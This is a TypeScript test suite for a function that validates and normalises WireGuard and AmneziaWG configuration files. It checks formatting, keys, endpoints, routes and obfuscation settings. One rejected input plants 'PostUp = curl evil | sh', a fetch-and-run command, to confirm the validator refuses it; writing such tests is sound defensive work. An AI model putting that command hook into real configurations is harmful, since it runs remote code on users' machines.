import { describe, expect, it } from 'vitest';
import { normaliseConf } from './conf.ts';

const PRIVATE = 'yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=';
const PUBLIC = 'xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=';

/** As a v2 panel writes it: one TAB before each key, a line of only a TAB, no newline at the end. */
const TABS = `[Interface]\n\tAddress = 10.0.1.23/24\n\tDNS = 9.9.9.9,149.112.112.112\n\tMTU = 1420\n\tPrivateKey = ${PRIVATE}\n\t\n[Peer]\n\tPersistentKeepalive = 25\n\tEndpoint = 192.0.2.1:51820\n\tPublicKey = ${PUBLIC}\n\tAllowedIPs = 0.0.0.0/0, ::/0`;
const NORMAL = `[Interface]
Address = 10.0.1.23/24
DNS = 9.9.9.9, 149.112.112.112
MTU = 1420
PrivateKey = ${PRIVATE}
[Peer]
PersistentKeepalive = 25
Endpoint = 192.0.2.1:51820
PublicKey = ${PUBLIC}
AllowedIPs = 0.0.0.0/0, ::/0
`;

const AMNEZIA = TABS.replace(
  '\tPrivateKey',
  '\tJc = 4\n\tJmin = 40\n\tJmax = 70\n\tS1 = 15\n\tS2 = 20\n\tH1 = 11\n\tH2 = 12\n\tH3 = 13\n\tH4 = 14\n\tPrivateKey',
);

const changed = (from: string | RegExp, to: string) => TABS.replace(from, to);
const problems = (text: string, variant: 'wireguard' | 'amneziawg' = 'wireguard') => {
  const result = normaliseConf(text, variant);
  return result.ok ? [] : result.problems;
};

describe('WireGuard configuration', () => {
  it.each([
    ['TABs', TABS],
    ['CRLF', TABS.replaceAll('\n', '\r\n')],
    ['lone CRs', TABS.replaceAll('\n', '\r')],
    ['a header glued to its first key', changed('[Interface]\n\t', '[Interface]')],
    ['a header glued with a blank', changed('[Interface]\n\t', '[Interface] ')],
    ['both headers glued', changed('[Interface]\n\t', '[Interface]').replace('[Peer]\n\t', '[Peer]')],
    ['blanks around', `\uFEFF  \n\n${TABS}\n\n  \n`],
    ['comments', changed('[Peer]', '# the server\n[Peer] # only one')],
    [
      'other letter case',
      TABS.replaceAll('Address', 'address').replaceAll('[Peer]', '[PEER]').replace('AllowedIPs', 'allowedips'),
    ],
    ['no blanks around =', TABS.replaceAll(' = ', '=')],
    ['lists on several lines', changed('AllowedIPs = 0.0.0.0/0, ::/0', 'AllowedIPs = 0.0.0.0/0\n\tAllowedIPs = ::/0')],
    ['its own result', NORMAL],
  ])('V141 Q-09 given %s, the text is one key per line, LF, not indented, with a final newline', (_, text) => {
    expect(normaliseConf(text, 'wireguard')).toEqual({ ok: true, text: NORMAL });
  });

  it.each([
    ['an IPv6 endpoint', changed('192.0.2.1:51820', '[2001:db8::1]:51820')],
    ['a named endpoint', changed('192.0.2.1:51820', 'vpn-1.example.test:51820')],
    ['a pre-shared key', changed('PublicKey', `PresharedKey = ${PUBLIC}\n\tPublicKey`)],
    ['an IPv6 address too', changed('10.0.1.23/24', '10.0.1.23/32, fd00::2/128')],
    ['keepalive off', changed('PersistentKeepalive = 25', 'PersistentKeepalive = off')],
    ['a search domain', changed('9.9.9.9,', 'example.test,')],
    ['no DNS and no MTU', changed(/\tDNS.*\n\tMTU.*\n/, '')],
    ['a route without a prefix', changed('::/0', '2001:db8::1')],
  ])('takes %s', (_, text) => {
    expect(problems(text)).toEqual([]);
  });

  it.each([['DNS = '], ['DNS = , ,'], ['MTU = '], ['MTU = 0'], ['ListenPort = 0'], ['ListenPort = <nil>']])(
    'given %j, leaves out what says nothing',
    (line) => {
      const bare = changed(/\tDNS.*\n\tMTU.*\n/, '');
      expect(normaliseConf(bare.replace('\tPrivateKey', `\t${line}\n\tPrivateKey`), 'wireguard')).toEqual(
        normaliseConf(bare, 'wireguard'),
      );
    },
  );

  it.each(['', '(none)', `${'A'.repeat(43)}=`])('given the pre-shared key %j, leaves it out', (value) => {
    expect(normaliseConf(changed('PublicKey', `PresharedKey = ${value}\n\tPublicKey`), 'wireguard')).toEqual({
      ok: true,
      text: NORMAL,
    });
  });

  it.each([
    ['a short private key', changed(PRIVATE, 'abc='), '[Interface] PrivateKey is not valid'],
    [
      'a key that is not canonical',
      changed(`${PRIVATE.slice(0, -2)}k=`, `${PRIVATE.slice(0, -2)}l=`),
      '[Interface] PrivateKey is not valid',
    ],
    ['a public key with a stray byte', changed(PUBLIC, `${PUBLIC}A`), '[Peer] PublicKey is not valid'],
    ['a broken address', changed('10.0.1.23/24', '10.0.1.256/24'), '[Interface] Address is not valid'],
    ['a broken prefix', changed('10.0.1.23/24', '10.0.1.23/33'), '[Interface] Address is not valid'],
    ['a broken route', changed('::/0', '::/129'), '[Peer] AllowedIPs is not valid'],
    ['a broken port', changed(':51820', ':70000'), '[Peer] Endpoint is not valid'],
    ['no port', changed(':51820', ''), '[Peer] Endpoint is not valid'],
    ['port 0', changed(':51820', ':0'), '[Peer] Endpoint is not valid'],
    [
      'an IPv6 endpoint without brackets',
      changed('192.0.2.1:51820', '2001:db8::1:51820'),
      '[Peer] Endpoint is not valid',
    ],
    ['a broken endpoint address', changed('192.0.2.1:', '192.0.2.999:'), '[Peer] Endpoint is not valid'],
    ['a route with leading zeros', changed('0.0.0.0/0', '010.000.000.001/08'), '[Peer] AllowedIPs is not valid'],
    ['a prefix with a leading zero', changed('::/0', '::/00'), '[Peer] AllowedIPs is not valid'],
    ['an endpoint that is a number in disguise', changed('192.0.2.1:', '0x7f000001:'), '[Peer] Endpoint is not valid'],
    ['a port with a leading zero', changed(':51820', ':051820'), '[Peer] Endpoint is not valid'],
    ['a private key that is empty', changed(PRIVATE, ''), '[Interface] PrivateKey is missing'],
    ['a public key of zeros', changed(PUBLIC, `${'A'.repeat(43)}=`), '[Peer] PublicKey is missing'],
    [
      'a configuration of half a megabyte',
      `${TABS}\n${'# x\n'.repeat(131_072)}`,
      'it is longer than a configuration can be',
    ],
    ['a small MTU', changed('1420', '500'), '[Interface] MTU is not valid'],
    ['a long keepalive', changed('= 25', '= 65536'), '[Peer] PersistentKeepalive is not valid'],
    [
      'a command to run',
      changed('\tMTU', '\tPostUp = curl evil | sh\n\tMTU'),
      '[Interface] has the key PostUp, which is not allowed there',
    ],
    [
      'a key in the wrong section',
      changed('\tMTU', '\tEndpoint = 192.0.2.1:1\n\tMTU'),
      '[Interface] has the key Endpoint, which is not allowed there',
    ],
    ['a key twice', changed('\tMTU = 1420', '\tMTU = 1420\n\tMTU = 1400'), '[Interface] MTU is there twice'],
    ['a line without =', changed('\tMTU = 1420', '\tMTU'), '[Interface] has a line that is not “Key = Value”'],
    ['no private key', changed(/\tPrivateKey.*\n/, ''), '[Interface] PrivateKey is missing'],
    ['no peer', TABS.slice(0, TABS.indexOf('[Peer]')), 'there is no [Peer]'],
    [
      'two interfaces',
      `${TABS}\n[Interface]\nAddress = 10.0.0.1\nPrivateKey = ${PRIVATE}`,
      'there must be one [Interface], and it comes first',
    ],
    ['another section', `${TABS}\n[Script]\n`, 'there is a section that is neither [Interface] nor [Peer]'],
    ['text before it', `hello\n${TABS}`, 'there is text before [Interface]'],
    ['nothing', '', 'there is no [Peer]'],
    ['HTML', '<html></html>', 'there is text before [Interface]'],
    ['AmneziaWG keys', AMNEZIA, '[Interface] has the key Jc, which is not allowed there'],
  ])('refuses %s, says why, and shows no value', (_, text, problem) => {
    const found = problems(text);
    expect(found).toContain(problem);
    expect(found.join()).not.toMatch(/yAnz5|xTIBA|curl/);
  });
});

describe('AmneziaWG configuration', () => {
  it('keeps its own keys', () => {
    expect(problems(AMNEZIA, 'amneziawg')).toEqual([]);
    const result = normaliseConf(AMNEZIA, 'amneziawg');
    expect(result.ok && result.text).toContain('MTU = 1420\nJc = 4\nJmin = 40\nJmax = 70\nS1 = 15\nS2 = 20\nH1 = 11\n');
  });

  it('takes packets of one length, and headers that touch', () => {
    const text = AMNEZIA.replace('Jmin = 40', 'Jmin = 70').replace('H1 = 11', 'H1 = 9-11');
    expect(problems(text, 'amneziawg')).toEqual([]);
  });

  it('keeps ranges of headers and packets of its own, and leaves out what is empty', () => {
    const packet = '<b 0xf6ab3267fa><c><t><r 10><rc 8><rd 1000>';
    const text = AMNEZIA.replace(
      /\tH1 = 11[\s\S]*H4 = 14\n/,
      `\tH1=100-300,\n\tH2=400-500\n\tH3=7\n\tH4=4294967295\n\tI1 = ${packet}\n\tI2 =\n\tI5 = <r 1>\n`,
    );
    expect(normaliseConf(text.replace('100-300,', '100-300'), 'amneziawg')).toMatchObject({
      ok: true,
      text: expect.stringContaining(
        `H1 = 100-300\nH2 = 400-500\nH3 = 7\nH4 = 4294967295\nI1 = ${packet}\nI5 = <r 1>\n`,
      ),
    });
    expect(problems(text, 'amneziawg')).toContain('[Interface] H1 is not valid');
  });

  it.each([
    ['H1 = 11', 'H1 = 300-100', '[Interface] H1 is not valid'],
    ['H1 = 11', 'H1 = 11-13', '[Interface] H1 to H4 are not all different'],
    ['H1 = 11', 'H1 = 011', '[Interface] H1 is not valid'],
    ['H1 = 11', 'H1 = 11\n\tI1 = <b 0xabc>', '[Interface] I1 is not valid'],
    ['H1 = 11', 'H1 = 11\n\tI1 = <r -1>', '[Interface] I1 is not valid'],
    ['H1 = 11', 'H1 = 11\n\tI1 = <x 1>', '[Interface] I1 is not valid'],
    ['H1 = 11', 'H1 = 11\n\tI6 = <r 1>', '[Interface] has the key I6, which is not allowed there'],
    ['S2 = 20', 'S2 = 71', '[Interface] S1 and S2 make two kinds of message equally long'],
    ['Jmin = 40', 'Jmin = 71', '[Interface] Jmin is greater than Jmax'],
    ['H2 = 12', 'H2 = 11', '[Interface] H1 to H4 are not all different'],
    ['Jc = 4', 'Jc = 129', '[Interface] Jc is not valid'],
    ['\tH4 = 14\n', '', '[Interface] H4 is missing'],
  ])('V144 given %j turned into %j, it is refused because %s', (from, to, problem) => {
    expect(problems(AMNEZIA.replace(from, to), 'amneziawg')).toContain(problem);
  });
});
